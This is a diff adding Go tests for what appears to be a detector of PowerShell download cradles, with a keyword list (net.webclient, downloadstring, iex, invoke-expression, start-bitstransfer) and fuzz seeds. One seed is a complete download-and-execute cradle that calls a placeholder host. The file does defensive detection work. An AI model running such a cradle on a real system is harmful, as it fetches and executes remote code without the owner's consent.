@@ -280,3 +280,73 @@ func FuzzReadArgs(f *testing.F) {
 		}
 	})
 }
+
+// psCradlePlain is psCradle as first written: the anchors searched for in
+// every value.
+func psCradlePlain(b []byte) (match, bool) {
+	var at [6]int
+	cradleAnchors.index(b, at[:])
+	for n, k := range at {
+		if anchor := cradleAnchors.needles[n]; k >= 0 {
+			lo := max(0, k-24)
+			if mt, ok := findAny(b[lo:min(len(b), k+len(anchor)+24)], psCradles, false); ok {
+				mt.i += lo
+				mt.j += lo
+				return mt, true
+			}
+		}
+	}
+	return match{}, false
+}
+
+// psCradleWords are the keywords of psCradles, for FuzzPSCradle.
+var psCradleWords = []string{"net.webclient", ".downloadstring(", ".downloadfile(", "iex(", "iex (", "|iex", "| iex",
+	"frombase64string(", "invoke-expression(", "invoke-expression (", "invoke-expression $", "start-bitstransfer"}
+
+// FuzzPSCradle checks that cradleMay is false only for values without any
+// of psCradles, and psCradleIn against its first form, on values that
+// hold pieces of them.
+func FuzzPSCradle(f *testing.F) {
+	f.Add("powershell iex (new-object net.webclient).downloadstring('http://x/a')", uint8(0))
+	f.Add("a|iex b -bits $x invoke-expression $y .w", uint8(3))
+	f.Add("the self-expression (really) of it. whatever", uint8(7))
+	f.Add("start-bitstransfer -source http://x -destination y", uint8(9))
+	f.Fuzz(func(t *testing.T, s string, k uint8) {
+		// a keyword, or a piece of one, spliced into the value
+		w := psCradleWords[int(k)%len(psCradleWords)]
+		if cut := int(k/16) % (len(w) + 1); k&8 != 0 {
+			w = w[:cut]
+		}
+		at := 0
+		if len(s) > 0 {
+			at = int(k) % (len(s) + 1)
+		}
+		b := []byte(strings.ToLower(s[:at] + w + s[at:]))
+		m := classify(string(b))
+		has := false
+		for _, kw := range psCradleWords {
+			has = has || bytes.Contains(b, []byte(kw))
+		}
+		if has && !cradleMay(b, m) {
+			t.Fatalf("cradleMay(%q) = false, but it holds a cradle", b)
+		}
+		gm, gok := psCradleIn(b, m)
+		wm, wok := psCradlePlain(b)
+		if gm != wm || gok != wok {
+			t.Fatalf("psCradleIn(%q) = %+v %v, want %+v %v", b, gm, gok, wm, wok)
+		}
+	})
+}
+
+// TestPSCradleWords checks that psCradleWords are the keywords of
+// psCradles, which cradleMay is written for.
+func TestPSCradleWords(t *testing.T) {
+	if len(psCradles.kws) != len(psCradleWords) {
+		t.Fatalf("psCradles has %d keywords, psCradleWords %d", len(psCradles.kws), len(psCradleWords))
+	}
+	for i, w := range psCradleWords {
+		if string(psCradles.kws[i]) != w {
+			t.Errorf("psCradles keyword %d is %q, psCradleWords has %q", i, psCradles.kws[i], w)
+		}
+	}
+}
